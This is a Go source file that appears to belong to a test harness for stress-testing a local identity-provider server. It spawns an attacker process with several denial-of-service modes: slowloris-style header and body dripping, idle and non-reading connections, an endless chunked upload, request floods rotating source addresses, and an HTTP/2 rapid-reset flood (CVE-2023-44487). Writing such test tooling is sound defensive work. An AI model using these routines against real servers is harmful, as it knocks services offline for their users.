package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// plan is what the attacker does, a process of its own.
type plan struct {
	Address     string   `json:"address"`
	Certificate string   `json:"certificate,omitempty"` // file of the server's; none: no TLS
	Manner      string   `json:"manner"`
	Requests    [][]byte `json:"requests,omitempty"`
	Connections int      `json:"connections"` // at once
	Addresses   uint32   `json:"addresses"`   // that connections come from
}

// The manners of attackers.
const (
	sendRequests   = "send requests"
	dripHeaders    = "headers that never end"
	dripBodies     = "bodies that never end"
	stayIdle       = "send nothing"
	readNothing    = "read no answer"
	sendWithoutEnd = "send without end"
	resetStreams   = "reset streams"
)

func startAttacker(ctx context.Context, p *plan, pin bool) (*child, error) {
	text, err := json.Marshal(p)
	if err != nil {
		return nil, err
	}
	return launch(ctx, placed(pin, attacking), "attacker", append(text, '\n'))
}

// attackerMain is the child's side: it does as planned until its standard input ends.
func attackerMain(ctx context.Context) error {
	in := bufio.NewReader(os.Stdin)
	line, err := in.ReadBytes('\n')
	if err != nil {
		return err
	}
	var p plan
	if err := json.Unmarshal(line, &p); err != nil {
		return err
	}
	pem, err := os.ReadFile(p.Certificate)
	if err != nil && p.Certificate != "" {
		return err
	}
	a := &attacker{plan: &p, roots: x509.NewCertPool(), answered: make([]atomic.Int64, 600)}
	a.roots.AppendCertsFromPEM(pem)
	ctx, stop := context.WithCancel(ctx)
	var wg sync.WaitGroup
	for range p.Connections {
		wg.Go(func() { a.goOn(ctx) })
	}
	err = attendTo(in, ready{}, a.count)
	stop()
	wg.Wait()
	return err
}

type attacker struct {
	*plan
	roots    *x509.CertPool
	hosts    atomic.Uint32
	next     atomic.Int64
	answered []atomic.Int64 // by status; 0: connections that ended without, or streams that were reset
}

func (a *attacker) count(u *usage) {
	u.Answered = map[int]int64{}
	for status := range a.answered {
		if n := a.answered[status].Load(); n > 0 {
			u.Answered[status] = n
		}
	}
}

// goOn makes one connection after another, each from the next address.
func (a *attacker) goOn(ctx context.Context) {
	for ctx.Err() == nil {
		conn, err := a.dial(ctx)
		if err != nil {
			time.Sleep(10 * time.Millisecond)
			continue
		}
		stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
		switch a.Manner {
		case sendRequests:
			err = a.requests(conn)
		case dripHeaders:
			err = drip(ctx, conn, time.Second, "POST /api/v1/oidc/token HTTP/1.1\r\nHost: agentidp.example\r\n", "X-Slow: yes\r\n")
		case dripBodies:
			err = drip(ctx, conn, time.Second, "POST /api/v1/oidc/token HTTP/1.1\r\nHost: agentidp.example\r\nContent-Type: application/json\r\nContent-Length: 2000\r\n\r\n{", " ")
		case stayIdle:
			_, err = io.Copy(io.Discard, conn)
		case readNothing:
			err = drip(ctx, conn, longest, strings.Repeat("GET /api/v1/openapi.json HTTP/1.1\r\nHost: agentidp.example\r\n\r\n", 20), "\r\n")
		case sendWithoutEnd:
			err = withoutEnd(conn)
		case resetStreams:
			err = a.resets(conn)
		}
		stop()
		_ = conn.Close() // what it was for is done
		if a.Manner != sendRequests || err != nil {
			a.answered[0].Add(1)
		}
	}
}

func (a *attacker) dial(ctx context.Context) (net.Conn, error) {
	conn, err := dialFrom(ctx, "tcp", a.Address, attackerNetwork, a.hosts.Add(1)%a.Addresses)
	if err != nil || len(a.Certificate) == 0 {
		return conn, err
	}
	secure := tls.Client(conn, &tls.Config{RootCAs: a.roots, ServerName: "127.0.0.1", NextProtos: []string{"h2"}, MinVersion: tls.VersionTLS12})
	return secure, secure.HandshakeContext(ctx)
}

// requests sends one after another until the connection ends, or the server has enough
// of its address: then another is at hand, unless there is but one.
func (a *attacker) requests(conn net.Conn) error {
	r := bufio.NewReader(conn)
	for {
		if _, err := conn.Write(a.Requests[a.next.Add(1)%int64(len(a.Requests))]); err != nil {
			return err
		}
		resp, err := http.ReadResponse(r, nil)
		if err != nil {
			return err
		}
		_, err = io.Copy(io.Discard, resp.Body)
		_ = resp.Body.Close()
		a.answered[resp.StatusCode].Add(1)
		if err != nil || resp.Close || resp.StatusCode == http.StatusTooManyRequests && a.Addresses > 1 {
			return err
		}
	}
}

// longest is more than any server waits for a client that reads nothing.
const longest = 20 * time.Second

// drip sends the beginning, and then a little from time to time. It reads nothing.
func drip(ctx context.Context, conn net.Conn, every time.Duration, begin, more string) error {
	_, err := io.WriteString(conn, begin)
	for err == nil {
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(every):
		}
		_, err = io.WriteString(conn, more)
	}
	return err
}

// withoutEnd sends ten gigabytes, or as much of it as is taken.
func withoutEnd(conn net.Conn) error {
	_, err := io.WriteString(conn, "POST /api/v1/oidc/token HTTP/1.1\r\nHost: agentidp.example\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
	chunk := fmt.Sprintf("%x\r\n%s\r\n", 60_000, strings.Repeat(" ", 60_000))
	for sent := 0; err == nil && sent < 10_000_000_000; sent += len(chunk) {
		_, err = io.WriteString(conn, chunk)
	}
	return err
}

// resets begins requests and takes them back at once (CVE-2023-44487).
func (a *attacker) resets(conn net.Conn) error {
	const headers, rst, settings, endHeaders, cancel = 1, 3, 4, 4, 8
	frame := func(kind, flags byte, stream uint32, payload []byte) []byte {
		n := len(payload)
		head := []byte{0, 0, byte(n), kind, flags, byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)} //nolint:gosec // payloads are short
		return append(head, payload...)
	}
	const path = "/api/v1/oidc/token"
	block := append([]byte{0x83, 0x87, 0x04, byte(len(path))}, path...) // POST, https, the path (RFC 7541)
	block = append(block, 0x01, 1, 'h')
	b := append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(settings, 0, 0, nil)...)
	read := make(chan error, 1)
	go func() {
		_, err := io.Copy(io.Discard, conn)
		read <- err
	}()
	for stream := uint32(1); stream < 1<<30; stream += 2 {
		b = append(b, frame(headers, endHeaders, stream, block)...)
		b = append(b, frame(rst, 0, stream, []byte{0, 0, 0, cancel})...)
		if len(b) < 8<<10 {
			continue
		}
		if _, err := conn.Write(b); err != nil {
			return err
		}
		a.answered[0].Add(int64(len(b) / 50))
		b = b[:0]
	}
	_ = conn.Close()
	return errors.Join(<-read, io.EOF)
}
